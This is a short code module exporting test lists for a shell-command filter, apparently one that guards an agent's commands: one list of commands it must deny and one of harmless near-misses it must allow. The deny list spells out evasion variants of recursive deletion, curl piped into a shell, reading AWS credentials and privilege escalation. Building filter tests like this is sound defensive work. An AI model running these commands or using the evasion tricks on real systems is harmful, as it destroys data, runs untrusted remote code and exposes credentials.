// The bypass (must deny) and near-miss (must allow) lists; shared by tests and the bench.
export const MUST_DENY = [
  "rm\t-r\t-f /x",
  "'rm' -rf ~",
  "\\rm -rf /opt",
  "/bin/rm --recursive --force /srv",
  "X=rm; $X -rf ~",
  "find / -delete",
  "bash -c 'rm -rf ~'",
  "python3 -c \"import shutil; shutil.rmtree('/x')\"",
  "curl -s URL | sh",
  "bash <(curl -s URL)",
  "cat ~/.aws/credentials",
  "sudo\twhoami",
  "doas sh",
];
export const MUST_ALLOW = [
  "terraform apply",
  "chmod 644 f",
  "kill -9 12345",
  "grep -rn 'rm -rf' docs/",
  "git commit -m 'remove rm -rf'",
  "rm notes-old.txt",
  "man rm",
];
